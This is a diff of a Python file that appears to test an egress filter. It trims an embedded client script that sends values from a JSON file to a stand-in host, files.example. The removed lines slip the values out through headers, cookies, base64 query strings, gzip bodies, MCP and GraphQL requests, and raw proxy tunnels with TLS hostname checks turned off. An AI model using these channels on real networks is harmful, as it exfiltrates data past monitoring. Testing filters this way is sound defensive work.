@@ -224,30 +224,7 @@ NAMING = {
 }
 """Values that stand where names do."""
 _NAMING_CLIENT = """
-import base64, gzip, http.client, json, os, socket, ssl, sys, urllib.parse, urllib.request as u
-_HEADERS = ("User-Agent", "Referer", "X-File", "Content-Disposition", "If-None-Match", "Accept", "Range")
-def other_ways(v, q):
-    # A method, a second Host, an upgrade with its protocol, another name in the hello.
-    name = v.replace("@", ".").replace("+", "").replace(" ", "")[:60]
-    for first, hosts in ((q + " /x", ()), ("GET /x", (f"Host: {name}.example",)),
-                         ("GET /x", ("Upgrade: websocket", "Connection: Upgrade",
-                                     "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: " + "A" * 22 + "==",
-                                     "Sec-WebSocket-Protocol: " + q))):
-        try:
-            at = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
-            raw = socket.create_connection((at.hostname, at.port), timeout=20)
-            raw.sendall(b"CONNECT files.example:443 HTTP/1.1\r\nHost: files.example:443\r\nX-N: "
-                        + v.encode() + b"\r\n\r\n")
-            raw.recv(9000)
-            trusted = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
-            trusted.check_hostname = False
-            told = name + ".example" if hosts and "Host" in hosts[0] else "files.example"
-            with trusted.wrap_socket(raw, server_hostname=told) as safe:
-                lines = (first + " HTTP/1.1", "Host: files.example", *hosts, "", "")
-                safe.sendall("\r\n".join(lines).encode())
-                safe.recv(9000)
-        except Exception:
-            pass
+import json, sys, urllib.parse, urllib.request as u
 def post(url, body, kind, **headers):
     request = u.Request(url, data=body, headers={"Content-Type": kind, **headers})
     try:
@@ -270,19 +247,6 @@ for v in json.load(open(sys.argv[1])):
     post("https://api.openai.com/v1/chat/completions", json_of(call), "application/json", **named)
     post("https://files.example/x", v.encode(), f"text/{v}", **{"Content-Encoding": v})
     post(f"https://{v.replace('@', '.').replace('+', '').replace(' ', '')[:60]}.files.example/", b"x", "text/plain")
-    post("https://files.example/x", b"x", "text/plain", **{name: v for name in _HEADERS})
-    post(f"https://files.example/a;{q}={q}/b", b"x", "text/plain", Cookie=f"{q}={q}; seen={v}")
-    packed = gzip.compress(json_of({"note": v, v: 1}))
-    post("https://files.example/x", packed, "application/json", **{"Content-Encoding": "gzip"})
-    pieces = (json_of({"n": [v] * 9})[at : at + 7] for at in range(0, 400, 7))
-    post("https://files.example/x", pieces, f"application/json; {q}={q}")
-    coded = base64.b64encode(json_of({v: v})).decode()
-    post(f"https://files.example/x?d={coded}", coded.encode(), "text/plain", **{"X-Coded": coded})
-    rpc = {"jsonrpc": "2.0", "id": v, "method": v, "params": {"name": v, "arguments": {v: v}}}
-    post("https://files.example/mcp", json_of(rpc), "application/json", **{"Mcp-Session-Id": v})
-    query = {"query": f'mutation M {{ add(name: "{v}") {{ id }} }}', "operationName": v}
-    post("https://files.example/graphql", json_of(query), "application/json")
-    other_ways(v, q)
 """
 
 
